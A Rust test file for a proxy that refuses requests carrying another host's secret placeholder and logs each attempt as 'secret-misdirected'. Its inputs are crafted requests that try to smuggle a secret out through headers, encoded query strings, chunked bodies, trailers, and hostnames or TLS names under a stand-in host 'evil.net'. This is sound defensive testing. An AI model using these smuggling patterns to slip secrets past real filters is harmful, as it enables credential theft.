//! Placeholders on their way to where no value goes.

use super::*;
use base64::prelude::*;

/// What the client is told, what the server got, and what is on record of one connection on which `KEY`, which is other.com's, goes to ok.com.
fn stray(asked: impl AsRef<[u8]>) -> (String, String) {
    let mut stage = Setup::with_secrets().stage();
    let mut client = stage.client();
    client.write_all(asked.as_ref()).unwrap();
    let answer = text(hear_all(&mut client));
    drop(client);
    let got = text(hear_all(&mut stage.server()));
    let (lines, summary) = stage.end();
    let alarm = &lines[0];
    assert_eq!(
        (&alarm["ev"], &alarm["secrets"]),
        (&"secret-misdirected".into(), &serde_json::json!(["KEY"]))
    );
    assert_eq!((&alarm["host"], &lines[1]["why"]), (&NAME.into(), &"secret-misdirected".into()));
    assert_eq!((lines.len(), summary.refusals, summary.refused.len()), (2, 1, 0));
    let told = &summary.misdirected[0];
    assert_eq!((told.secret.as_str(), told.host.as_str(), told.times), ("KEY", TO, 1));
    (answer, got)
}

#[test]
fn the_placeholder_of_another_hosts_secret_is_refused_wherever_it_stands() {
    let basic = BASE64_STANDARD.encode(format!("x:{OTHER}"));
    for asked in [
        get("/", &format!("Authorization: Bearer {OTHER}\r\n")),
        get("/", &format!("Authorization: Basic {basic}\r\n")),
        get("/", &format!("X-{OTHER}: 1\r\n")),
        get("/", &format!("X-Upper: {}\r\n", OTHER.to_uppercase())),
        get("/", &format!("Proxy-Authorization: {OTHER}\r\n")),
        get(&format!("/a/{OTHER}"), ""),
        get(&format!("/?q={OTHER}"), ""),
        get(&format!("/?q={}", OTHER.replace('-', "%2D").replace('a', "%61")), ""),
        format!("{OTHER} / HTTP/1.1\r\nHost: ok.com\r\n\r\n"),
        format!("GET / HTTP/1.1\r\nHost: {OTHER}.evil.net\r\n\r\n"),
        format!("GET https://{OTHER}.evil.net/ HTTP/1.1\r\nHost: ok.com\r\n\r\n"),
        get("/", &format!("A: {STAND_IN} {OTHER}\r\n")),
    ] {
        let (answer, got) = stray(&asked);
        assert!(
            answer.starts_with("HTTP/1.1 403 Forbidden\r\nx-proxy-error: secret-misdirected\r\n"),
            "{asked}: {answer}"
        );
        assert!(answer.contains("connection: close") && !answer.contains(OTHER), "{answer}");
        assert_eq!(got, "", "{asked}");
    }
}

#[test]
fn a_placeholder_in_a_body_is_found_across_its_pieces() {
    let (first, second) = OTHER.split_at(7);
    let plain =
        format!("POST / HTTP/1.1\r\nHost: ok.com\r\nContent-Length: {}\r\n\r\n--{OTHER}--", OTHER.len() + 4);
    let chunked = format!(
        "POST / HTTP/1.1\r\nHost: ok.com\r\nTransfer-Encoding: chunked\r\n\r\n{:x}\r\n{first}\r\n{:x}\r\n{second}\r\n0\r\n\r\n",
        first.len(),
        second.len(),
    );
    let trailer = format!(
        "POST / HTTP/1.1\r\nHost: ok.com\r\nTransfer-Encoding: chunked\r\nTrailer: a\r\n\r\n1\r\nx\r\n0\r\na: {OTHER}\r\n\r\n"
    );
    for asked in [plain, chunked, trailer] {
        let (answer, got) = stray(&asked);
        assert!(
            answer.starts_with("HTTP/1.1 403 Forbidden\r\nx-proxy-error: secret-misdirected\r\n"),
            "{asked}: {answer}"
        );
        assert!(!got.contains(second), "{got}");
    }
}

#[test]
fn a_placeholder_behind_an_answer_that_has_begun_ends_the_connection() {
    let mut stage = Setup::with_secrets().stage();
    let mut client = stage.client();
    client
        .write_all(b"POST / HTTP/1.1\r\nHost: ok.com\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n")
        .unwrap();
    let mut server = stage.server();
    head(&mut server);
    server.write_all(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1\r\ny\r\n").unwrap();
    head(&mut client);
    client.write_all(format!("{:x}\r\n{OTHER}\r\n", OTHER.len()).as_bytes()).unwrap();
    assert!(!text(hear_all(&mut client)).contains("0\r\n\r\n"));
    assert!(!text(hear_all(&mut server)).contains(OTHER));
    drop((client, server));
    let (lines, _) = stage.end();
    assert_eq!(
        (&lines[0]["ev"], &lines[1]["why"]),
        (&"secret-misdirected".into(), &"secret-misdirected".into())
    );
}

/// The same over plain HTTP, through a proxy and on a tunnel, where no host has any secret.
#[test]
fn no_placeholder_goes_over_plain_http() {
    let (first, second) = STAND_IN.split_at(9);
    let asked = |fields: &str, rest: &str| format!("POST http://ok.com/{fields}\r\n\r\n{rest}");
    for request in [
        asked(&format!("?{STAND_IN} HTTP/1.1\r\nHost: ok.com"), ""),
        asked(&format!(" HTTP/1.1\r\nHost: ok.com\r\nAuthorization: token {STAND_IN}"), ""),
        asked(&format!(" HTTP/1.1\r\nHost: ok.com\r\nContent-Length: {}", STAND_IN.len()), STAND_IN),
        asked(
            " HTTP/1.1\r\nHost: ok.com\r\nTransfer-Encoding: chunked",
            &format!("{:x}\r\n{first}\r\n{:x}\r\n{second}\r\n0\r\n\r\n", first.len(), second.len()),
        ),
        asked(
            " HTTP/1.1\r\nHost: ok.com\r\nTransfer-Encoding: chunked",
            &format!("0\r\nA: {STAND_IN}\r\n\r\n"),
        ),
    ] {
        for tunnel in [false, true] {
            let origin = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
            let mut stage = Setup { rules: vec![rule("ok.com:80", None)], ..Setup::with_secrets() }.stage();
            Arc::get_mut(&mut stage.gate).unwrap().origin = origin.local_addr().unwrap();
            let mut client =
                if tunnel { stage.captured("ok.com:80") } else { stage.arriving(Arrival::Proxy) };
            client.write_all(request.as_bytes()).unwrap();
            let (mut server, _) = origin.accept().unwrap();
            let got = String::from_utf8_lossy(&hear_all(&mut server)).into_owned();
            assert!(!got.contains(second), "{got}");
            let answer = text(hear_all(&mut client));
            assert!(
                answer.is_empty()
                    || answer.starts_with("HTTP/1.1 403 Forbidden\r\nX-Proxy-Error: secret-misdirected\r\n"),
                "{answer}"
            );
            drop(client);
            let (lines, summary) = stage.end();
            let alarms = lines.iter().filter(|line| line["ev"] == "secret-misdirected").count();
            assert_eq!(
                (alarms, &lines[0]["secrets"]),
                (1, &serde_json::json!(["TOKEN"])),
                "{request}: {lines:?}"
            );
            assert_eq!(lines[1]["why"], "secret-misdirected", "{lines:?}");
            assert_eq!((summary.misdirected[0].host.as_str(), summary.refusals), ("ok.com:80", 1));
        }
    }
}

#[test]
fn a_placeholder_in_a_name_is_an_alarm_and_the_name_is_not_on_record() {
    use crate::network::gate::Keeper;
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("log");
    let record = Record::new(Some(File::create(&path).unwrap()), "7".into());
    let authority = Authority::new(&[NAME.to_owned()]).unwrap();
    let inspector = Inspector { authority, secrets: secrets(), roots: Vec::new() };
    let keeper = Keeper::new(vec![rule("*.evil.net", None)], record, Some(inspector));
    for name in [format!("{OTHER}.evil.net:443"), format!("x{}.other.net:80", OTHER.to_uppercase())] {
        let refused = keeper.open(Via::Connect, &Target::parse(&name, None).unwrap()).unwrap_err();
        assert_eq!((refused.reason, refused.target), (Reason::SecretMisdirected, None));
    }
    keeper.unnamed(Host::parse(&format!("{OTHER}.evil.com")).unwrap());
    let log = std::fs::read_to_string(path).unwrap();
    assert!(log.lines().count() == 3 && !log.to_lowercase().contains(OTHER), "{log}");
    let summary = keeper.record().summary();
    assert_eq!((summary.misdirected[0].secret.as_str(), summary.misdirected[0].host.as_str()), ("KEY", "?"));
    assert_eq!((summary.misdirected[0].times, summary.refused.len()), (3, 0));
}

#[test]
fn a_placeholder_as_the_name_of_tls_is_an_alarm() {
    let mut stage = Setup::with_secrets().stage();
    let stream = stage.captured(TO);
    let mut client = stage.tls(stream, &format!("{OTHER}.evil.net"), &[ALPN]);
    assert!(client.write_all(b"x").and_then(|()| client.flush()).is_err());
    let (lines, _) = stage.end();
    assert_eq!((&lines[0]["ev"], lines[1].get("sni")), (&"secret-misdirected".into(), None));
}
